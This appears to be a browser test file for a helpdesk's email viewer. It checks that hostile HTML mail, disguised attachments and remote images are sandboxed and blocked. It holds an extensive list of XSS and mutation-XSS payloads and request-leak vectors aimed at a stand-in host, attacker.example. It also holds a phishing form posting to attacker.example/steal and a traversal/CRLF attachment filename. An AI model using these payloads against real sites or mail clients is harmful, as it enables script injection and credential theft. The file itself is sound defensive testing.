// Mail that wants to run, to phone home, or to look like ours (T-A1, T-A2, T-A3).

import assert from 'node:assert/strict';
import test, { after } from 'node:test';
import { assertAccessible, letter, openBrowser, openTicket, ownPage, row, sampleCompany, screenshot, signedIn, signIn, write } from './support.mjs';

const browser = await openBrowser({ after });
const steward = await sampleCompany({ after });
const ATTACKER = 'http://attacker.example';

const HTML = `<!doctype html><html><head><base href="${ATTACKER}/"><meta http-equiv="refresh" content="0;url=${ATTACKER}/gone">
<link rel="stylesheet" href="${ATTACKER}/style.css"><link rel="prefetch" href="${ATTACKER}/prefetch">
<style>@import url(${ATTACKER}/import.css); body{background:url(${ATTACKER}/ground.png)} .message-sheet{display:none}</style>
<script>top.ran = 'head'</script></head><body onload="top.ran='onload'" background="${ATTACKER}/body.png">
<p>Visible words of the letter.</p>
<script>parent.ran = 'script'</script>
<img src=x onerror="parent.ran='onerror'"><img src="${ATTACKER}/pixel.png"><img srcset="${ATTACKER}/set.png 2x">
<svg onload="parent.ran='svg'"><script>parent.ran='svg script'</script><use href="${ATTACKER}/use.svg#a"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="parent.ran='mxss'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=parent.ran='noscript'>"></noscript>
<iframe src="${ATTACKER}/frame"></iframe><iframe srcdoc="<script>parent.parent.ran='srcdoc'</script>"></iframe>
<object data="${ATTACKER}/object"></object><embed src="${ATTACKER}/embed"><video src="${ATTACKER}/v" poster="${ATTACKER}/p"></video><audio src="${ATTACKER}/a" autoplay></audio>
<form action="${ATTACKER}/steal" method="post"><input name="password" type="password" autofocus onfocus="parent.ran='focus'"><button>Sign in again</button></form>
<a href="javascript:parent.ran='link'">click</a><a href="data:text/html,<script>parent.ran='data'</script>">data</a>
<a href="${ATTACKER}/harmless">harmless</a>
<div style="position:fixed;inset:0;background:url('${ATTACKER}/inline.png');width:expression(alert(1))">over everything</div>
<template><img src=x onerror="parent.ran='template'"></template>
</body></html>`;

const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>document.cookie='ran=svg'</script></svg>`;
const PAGE = `<script>document.cookie='ran=html'</script>`;

function hostileMail() {
  const part = (type, name, body) => ['--b', `Content-Type: ${type}; name="${name}"`, `Content-Disposition: attachment; filename="${name}"`, '', body];
  return [
    'From: "Mallory \\"><script>parent.ran=1</script>" <mallory@attacker.example>', 'To: it@brackwater.example',
    'Subject: Invoice <img src=x onerror=parent.ran=2>', 'Message-ID: <hostile.1@attacker.example>', 'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b', '', '--b', 'Content-Type: text/html; charset=utf-8', '', HTML,
    ...part('image/svg+xml', 'logo.svg', SVG), ...part('text/html', 'page.html', PAGE), ...part('image/png', 'picture.html', PAGE),
    ...part('application/pdf', '../../etc/<b>passwd"\r\nx', 'no pdf'.trim()).map((line) => line.replace(/"\r\nx/g, '')), '--b--', '',
  ].join('\n');
}

test('a hostile mail is shown, runs nothing, asks nobody outside for anything, and covers nothing of ours', async (t) => {
  await write(steward, hostileMail());
  const page = await ownPage(t, browser);
  const asked = [];
  page.context().on('request', (request) => { if (!request.url().startsWith(steward.url) && !request.url().startsWith('data:')) asked.push(request.url()); });
  await signIn(page, steward, 'jonas', '/desk/views/open');
  await row(page, 'Invoice <img src=x').waitFor();
  await openTicket(page, 'Invoice <img src=x onerror=parent.ran=2>');
  const frame = page.frameLocator('.message-frame').first();
  await frame.getByText('Visible words of the letter.').waitFor();
  await page.locator('a.file-take').first().waitFor();
  await screenshot(page, 'hostile-open');

  assert.equal(await page.evaluate(() => window.ran), undefined);
  const inside = page.frames().find((one) => one.url().includes('/body'));
  const found = await inside.evaluate(() => ({
    elements: [...document.querySelectorAll('script,iframe,object,embed,form,input,svg,math,link,video,audio,template,base[href],meta[http-equiv]')].map((one) => one.outerHTML),
    handlers: [...document.querySelectorAll('*')].flatMap((one) => [...one.attributes].filter((a) => /^on|^style$|^srcset$|^background$/.test(a.name) && /on|attacker|fixed/.test(a.name + a.value)).map((a) => `${a.name}=${a.value}`)),
    // Our own line above the letter is no part of it.
    links: [...document.querySelectorAll('a[href]:not(body > .said:first-child a)')].map((one) => [one.getAttribute('href'), one.rel]),
  })).catch((error) => error);
  // Scripts are off in there; the tester's own are run by the debugger and may look.
  assert.deepEqual(found.elements, []);
  assert.deepEqual(found.handlers, []);
  for (const [href, rel] of found.links) {
    assert.match(href, /^(https?:|mailto:)/);
    assert.match(rel, /noopener/);
  }
  await page.locator('#composer-body').click();
  assert.equal(await page.evaluate(() => document.activeElement.id), 'composer-body', 'the letter covers our own page');
  assert.deepEqual(asked, []);
  await page.watch.assertQuiet();
});

test('attachments are downloads whatever they call themselves', async (t) => {
  const page = await signedIn(t, browser, steward, 'jonas', '/desk/views/open');
  await openTicket(page, 'Invoice <img src=x onerror=parent.ran=2>');
  await page.locator('a.file-take').first().waitFor();
  const links = await page.locator('a.file-take').evaluateAll((all) => all.map((one) => one.href));
  assert.equal(links.length, 4);
  for (const href of links) {
    const answer = await page.context().request.get(href);
    const headers = answer.headers();
    assert.equal(answer.status(), 200);
    assert.match(headers['content-disposition'], /^attachment/);
    assert.doesNotMatch(headers['content-disposition'], /[\r\n]|\.\.\/|filename="[^"]*</);
    assert.equal(headers['x-content-type-options'], 'nosniff');
    assert.match(headers['content-security-policy'], /sandbox|default-src 'none'/);
    assert.doesNotMatch(headers['content-type'], /html|svg|xml|javascript/);
  }
  // Typed into the address line they are still no pages.
  page.watch.forgive(/ERR_ABORTED/);
  const download = page.waitForEvent('download');
  await page.goto(links[1]).catch(() => {});
  await download;
  assert.ok(!(await page.context().cookies()).some((cookie) => cookie.name === 'ran'));
  await page.watch.assertQuiet();
});

// Classes of SECURITY T-A1: each payload alone, in a table cell and after what other parsers leave open.
const PAYLOADS = [
  '<script>top.ran=1</script>', '<scr<script>ipt>top.ran=1</scr</script>ipt>', '<img src=x onerror=top.ran=1>', '<img/src=x/onerror=top.ran=1>', '<img src="x"onerror="top.ran=1">',
  '<IMG SRC=JaVaScRiPt:top.ran=1>', '<img src="data:text/html,<script>top.ran=1</script>">', '<body onpageshow=top.ran=1>', '<svg onload=top.ran=1>', '<svg><script>top.ran=1</script></svg>',
  '<svg><a><animate attributeName=href values=javascript:top.ran=1 /><text y=20>x</text></a></svg>', '<svg><set attributeName=href to=javascript:top.ran=1>', '<svg></p><style><a id="</style><img src=1 onerror=top.ran=1>">',
  '<svg><foreignObject><img src=x onerror=top.ran=1></foreignObject></svg>', '<svg><use href="data:image/svg+xml,<svg id=x><script>top.ran=1</script></svg>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.ran=1&gt;">', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=top.ran=1></style></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.ran=1>', '<math href="javascript:top.ran=1">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=top.ran=1>">', '<textarea><img title="</textarea><img src onerror=top.ran=1>"></textarea>', '<title><a title="</title><img src=x onerror=top.ran=1>">',
  '<xmp><p title="</xmp><img src=x onerror=top.ran=1>">', '<noembed><p title="</noembed><img src=x onerror=top.ran=1>">', '<svg><iframe><a title="</iframe><img src onerror=top.ran=1>">test',
  '<iframe src="javascript:top.ran=1"></iframe>', '<iframe srcdoc="<script>top.ran=1</script>"></iframe>', '<object data="javascript:top.ran=1"></object>', '<embed src="javascript:top.ran=1">',
  '<details open ontoggle=top.ran=1>x</details>', '<video><source onerror=top.ran=1></video>', '<audio src=x onerror=top.ran=1>', '<marquee onstart=top.ran=1>x</marquee>', '<input onfocus=top.ran=1 autofocus>',
  '<select onfocus=top.ran=1 autofocus><option>x</select>', '<a href="java&#9;script:top.ran=1">x</a>', '<a href=" &#14; javascript:top.ran=1">x</a>', '<a href="vbscript:x">x</a>',
  '<form action=javascript:top.ran=1><button formaction=javascript:top.ran=1>x</button></form>', '<isindex action=javascript:top.ran=1 type=image>', '<table background="javascript:top.ran=1"><td background=javascript:top.ran=1>x</table>',
  '<!--<img src="--><img src=x onerror=top.ran=1//">', '<!--[if gte IE 4]><script>top.ran=1</script><![endif]-->', '<![CDATA[<img src=x onerror=top.ran=1>]]>', '<template><script>top.ran=1</script></template>',
  '<p style="font-family:\'x\';/*</p><img src=x onerror=top.ran=1>*/">x</p>', '<p>x</p>\u0000<scr\u0000ipt>top.ran=1</scr\u0000ipt>', '<a\u000Bhref=javascript:top.ran=1>x</a>', '+ADw-script+AD4-top.ran=1+ADw-/script+AD4-',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>', '<div style="height:2000vh;width:900vw">x</div>', '<img name=getElementById><form id=attributes><input name=x></form>',
  '<details class="fold"><summary>More</summary><img src=x onerror=top.ran=1></details>', '<p class="said"><a href="?remote=1" target="_self">Load</a></p>',
];
// T-A2: every way in which a picture, a style or a link could ask somebody for something.
const REQUESTS = [
  '<img src="/x/../../api/logout">', '<img src="/logout">', '<img src="//attacker.example/x">', '<img src="\\\\attacker.example\\x">', '<img src="/%2e%2e/%2e%2e/logout">', '<img src="https:/\\attacker.example/x">',
  `<img srcset="${ATTACKER}/set.png 1x">`, `<picture><source srcset="${ATTACKER}/p.png"><img src="${ATTACKER}/q.png"></picture>`, `<div style="background-image:url(${ATTACKER}/bg)">x</div>`,
  `<div style="background:\\75\\72\\6c(${ATTACKER}/esc)">x</div>`, `<div style="list-style-image:url(${ATTACKER}/li);cursor:url(${ATTACKER}/c),auto;content:url(${ATTACKER}/co)">x</div>`, `<style>@import '${ATTACKER}/i.css';@font-face{font-family:x;src:url(${ATTACKER}/f)}*{font-family:x}</style>`,
  `<link rel=stylesheet href="${ATTACKER}/l.css"><link rel=preload as=image href="${ATTACKER}/pre"><link rel=dns-prefetch href="${ATTACKER}">`, `<base href="${ATTACKER}/"><img src="rel.png">`, `<meta http-equiv=refresh content="0;url=${ATTACKER}/m">`,
  `<body background="${ATTACKER}/body">`, `<table background="${ATTACKER}/table"><tr><td background="${ATTACKER}/td">x</table>`, `<svg><image href="${ATTACKER}/svg"/></svg>`, `<video poster="${ATTACKER}/poster" src="${ATTACKER}/v"></video>`,
  `<input type=image src="${ATTACKER}/input">`, `<object data="${ATTACKER}/o"></object>`, `<a href="https://harmless.example" ping="${ATTACKER}/ping">x</a>`, `<img src="${ATTACKER}/pixel" width=1 height=1>`, `<img src="cid:nobody@nowhere">`,
];

const htmlLetter = (subject, html) => letter({ from: 'Mallory <mallory@attacker.example>', subject, headers: [], body: html }).replace('text/plain', 'text/html');

test('T-A1, T-A2: no payload runs, none breaks the policy, none asks anybody for anything', async (t) => {
  const nested = [...PAYLOADS, ...REQUESTS].flatMap((payload) => [payload, `<table><tr><td>${payload}</td></tr></table>`, `<b><a href="https://x.example">${payload}`]);
  const letters = 6;
  const subjects = [];
  for (let at = 0; at < letters; at += 1) {
    const part = nested.filter((_, place) => place % letters === at);
    subjects.push(`Payloads of part ${at}`);
    await write(steward, htmlLetter(subjects[at], `<p>Words before part ${at}.</p>${part.map((payload) => `<div>${payload}</div>`).join('\n')}`));
  }
  const page = await ownPage(t, browser);
  const asked = [];
  page.context().on('request', (request) => {
    const url = new URL(request.url());
    if (!request.url().startsWith(steward.url) || /logout|\.\./.test(url.pathname)) asked.push(request.url());
  });
  await signIn(page, steward, 'jonas', '/desk/views/open');
  for (const [at, subject] of subjects.entries()) {
    await openTicket(page, subject);
    await page.frameLocator('.message-frame').first().getByText(`Words before part ${at}.`).waitFor();
    const frame = page.frames().find((one) => one.url().includes('/body'));
    const left = await frame.evaluate(() => [...document.querySelectorAll('*')].filter((one) => [...one.attributes].some((a) => /^on|^srcset$|^ping$|^background$|^action$|^formaction$/.test(a.name)) || one.matches('script,iframe,object,embed,form,input,svg,math,link,video,audio,template')).map((one) => one.outerHTML));
    assert.deepEqual(left, [], subject);
    const box = await page.locator('.message-frame').first().boundingBox();
    assert.ok(box.height <= 20_100 && box.width <= 800, `the letter leaves its frame: ${JSON.stringify(box)}`);
    assert.equal(await page.evaluate(() => window.ran), undefined, subject);
    // What it folds can be opened, and still nothing runs.
    for (const summary of await frame.locator('summary').all()) await summary.click({ timeout: 2_000 }).catch(() => {});
    assert.equal(await page.evaluate(() => window.ran), undefined, subject);
  }
  assert.deepEqual(asked, []);
  await page.watch.assertQuiet();
});

const NEWSLETTER = `<table width="600" bgcolor="#003a4d" cellpadding="12"><tr><td style="color:#ffffff;font-size:20px">Brackwater weekly</td></tr>
<tr><td bgcolor="#ffffff" style="color:#333333">New gates at the harbour.<br><img src="https://pictures.example/gate.png" alt="The gate" width="200" height="100"><img src="http://pictures.example/old.png" alt="old">
<img src="https://count.example/open?id=1" width="1" height="1"></td></tr></table>`;
const OUTLOOK = `<div class=WordSection1><p class=MsoNormal>It works again, thank you!</p><p class=MsoNormal style="color:black">Only gate 3 is still red.</p>
<div><div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in'><p class=MsoNormal><b>From:</b> IT &lt;it@brackwater.example&gt;<br><b>Sent:</b> Monday, November 23, 2026<br><b>To:</b> Rosa<br><b>Subject:</b> Gates</p></div></div>
<p class=MsoNormal>Did you restart the gate?</p></div>`;

test('pictures from elsewhere are fetched only when the reader asks, by name of nobody; trackers never', async (t) => {
  await write(steward, htmlLetter('Weekly news with pictures', NEWSLETTER));
  const page = await ownPage(t, browser);
  const asked = [];
  await page.context().route(/pictures\.example|count\.example/, (route) => {
    asked.push([route.request().url(), route.request().headers().referer]);
    return route.fulfill({ contentType: 'image/png', body: Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64') });
  });
  await signIn(page, steward, 'jonas', '/desk/views/open');
  await openTicket(page, 'Weekly news with pictures');
  const frame = page.frameLocator('.message-frame').first();
  await frame.getByText('Remote images were not loaded.').waitFor();
  await frame.getByText('1 tracking pixel was removed.').waitFor();
  await screenshot(page, 'letter-pictures-held');
  assert.deepEqual(asked, []);
  await frame.getByRole('link', { name: 'Load' }).focus();
  await page.keyboard.press('Enter');
  await frame.locator('img[src^="https://pictures.example/gate.png"]').waitFor();
  await frame.locator('img[src^="https://pictures.example/old.png"]').waitFor();
  await frame.getByText('Remote images').waitFor({ state: 'detached' });
  await screenshot(page, 'letter-pictures-shown');
  assert.deepEqual(asked.sort(), [['https://pictures.example/gate.png', undefined], ['https://pictures.example/old.png', undefined]]);
  await page.watch.assertQuiet();
});

test('a letter shows what is new in it; history and signature open by keyboard, in both themes', async (t) => {
  await write(steward, htmlLetter('Gates answered from Outlook', OUTLOOK));
  await write(steward, letter({
    from: 'Rosa Marin <rosa.marin@client.example>', subject: 'Gates answered in plain text',
    body: 'Es geht wieder, vielen Dank für die schnelle Hilfe am Montag!\n\n- Tor 3 ist noch rot\n- Tor 4 ist grün\n\n-- \nRosa Marin\nHafenbetrieb\n\nAm 23.11.26 um 10:00 schrieb IT:\n> Haben Sie neu gestartet?\n> Welche Tore?',
  }));
  for (const colorScheme of ['light', 'dark']) {
    const page = await signedIn(t, browser, steward, 'jonas', '/desk/views/open', { colorScheme });
    await openTicket(page, 'Gates answered from Outlook');
    const frame = page.frameLocator('.message-frame').first();
    await frame.getByText('Only gate 3 is still red.').waitFor();
    const history = frame.getByText('Did you restart the gate?');
    assert.equal(await history.isVisible(), false);
    const readable = await page.evaluate(() => getComputedStyle(document.querySelector('.message-frame').contentDocument.querySelector('p + p')).color);
    assert.equal(/rgb\((2[0-9]{2})/.test(readable), colorScheme === 'dark', `ink of a plain letter follows the theme: ${readable}`);
    await screenshot(page, `letter-folded-${colorScheme}`);
    await frame.locator('summary').first().focus();
    await page.keyboard.press('Enter');
    await history.waitFor();
    await screenshot(page, `letter-unfolded-${colorScheme}`);
    await page.waitForFunction(() => document.querySelector('.message-frame').contentDocument.documentElement.scrollHeight <= document.querySelector('.message-frame').clientHeight + 1);

    await openTicket(page, 'Gates answered in plain text');
    const sheet = page.locator('.message-body').first();
    await sheet.locator('li', { hasText: 'Tor 3 ist noch rot' }).waitFor();
    await page.locator('.message-language', { hasText: 'Deutsch' }).waitFor();
    assert.equal(await sheet.getByText('Haben Sie neu gestartet?').isVisible(), false);
    await screenshot(page, `text-folded-${colorScheme}`);
    await sheet.locator('summary').first().focus();
    await page.keyboard.press('Enter');
    await sheet.getByText('Haben Sie neu gestartet?').waitFor();
    await assertAccessible(page, `a folded message, ${colorScheme}`);
    const original = await page.context().request.get(await page.locator('.message-original').first().evaluate((one) => one.href));
    assert.equal(original.status(), 200);
    assert.match(original.headers()['content-disposition'], /^attachment/);
    assert.match(await original.text(), /^Subject: Gates answered in plain text\r?$/m);
    await page.watch.assertQuiet();
  }
});
